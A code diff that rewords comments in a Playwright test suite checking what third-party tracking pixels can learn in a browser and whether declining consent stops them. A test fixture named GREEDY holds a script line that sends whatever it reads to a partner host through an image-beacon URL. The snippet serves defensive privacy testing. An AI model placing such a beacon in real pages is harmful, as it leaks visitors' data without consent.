@@ -13,9 +13,9 @@ import { toldIn } from "../support/sent-events";
 import { Visitor } from "../support/visitor";
 import { walkTo } from "../support/walk";
 
-/** What pixels of others learn in a browser, and what they cannot. */
+/** Tests what third-party pixels learn in a browser, and what they cannot. */
 
-// One site is enough for all of them, one after another.
+// The tests share one site and run one after another.
 test.describe.configure({ mode: "default" });
 
 let site: Site;
@@ -23,7 +23,7 @@ let partner: Server;
 let folder = "";
 const asked: string[] = [];
 
-/** A script of somebody's that takes whatever it can reach. */
+/** A third-party script that reads everything it can reach. */
 const GREEDY = `
   const told = (what, value) => { new Image().src = PARTNER + "/got?" + what + "=" + encodeURIComponent(String(value)); };
   for (const [what, read] of Object.entries({
@@ -66,7 +66,7 @@ test.afterAll(async () => {
   rmSync(folder, { recursive: true, force: true });
 });
 
-/** The times that were kept, and whether they are in the order of a document's life. */
+/** Returns the recorded timings, and whether they are in the order of a page load. */
 const timed = () =>
   rowsIn<{ page: string; whole: boolean }>(
     site,
@@ -74,7 +74,10 @@ const timed = () =>
        and dom_content_loaded >= response_start as whole from hydration_audits`,
   );
 
-/** What Google Analytics and Meta would be told of a browser, once its last event is there: name, step and button of each, without their order. */
+/**
+ * Returns what Google Analytics and Meta would get about a browser, once its last event is stored:
+ * name, step and button of each, in any order.
+ */
 async function toldOf(client: string): Promise<string[]> {
   const read = () =>
     withEmbedded(site.dataDir, async (url) => {
@@ -97,7 +100,7 @@ test.describe("pixels of others", () => {
   test("UI-092: a document that is left tells its times, which are those of a real one @js", async ({
     page,
   }) => {
-    // The script that takes the times comes after the page; a document that is left before has none to tell.
+    // The timing script loads after the page; a document left before that reports no timings.
     await page.addInitScript(() => {
       const observe = PerformanceObserver.prototype.observe;
       PerformanceObserver.prototype.observe = function (options) {
@@ -108,7 +111,7 @@ test.describe("pixels of others", () => {
     await page.goto(`${site.url}/mini/home`);
     await settled(page);
     await page.locator("html[data-timed]").waitFor();
-    // What it observes is told to it in a task of its own, after the first frame.
+    // The observer gets its entries in a separate task, after the first frame.
     await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve))));
     await page.goto(`${site.url}/legal/privacy-choices`);
     await expect.poll(timed, { timeout: 15_000 }).toEqual([{ page: "/mini/home", whole: true }]);
@@ -119,7 +122,7 @@ test.describe("pixels of others", () => {
   }) => {
     const views = () => asked.filter((one) => one.startsWith("/picture"));
     asked.length = 0;
-    // Whoever goes on at once has not looked at the first page.
+    // A visitor who continues at once does not count as a viewer of the first page.
     await openWithClock(page, `${site.url}/mini/home`);
     const who = walker("Approved", test.info().parallelIndex);
     await answer(page, who);
@@ -142,7 +145,7 @@ test.describe("pixels of others", () => {
     expect(asked.filter((one) => /^\/got\?(?!refused|event)/.test(one))).toEqual([]);
     await expect.poll(() => site.output()).toContain("Failed to load the Gone Pixel script");
     await page.goto(`${site.url}/legal/privacy-choices`);
-    // Saying no ends all of it, also for the page that comes then.
+    // Declining stops all pixels, also on the next page.
     await page.getByRole("button", { name: "Do not allow anything" }).click();
     const before = asked.length;
     await page.goto(`${site.url}/mini/home`);
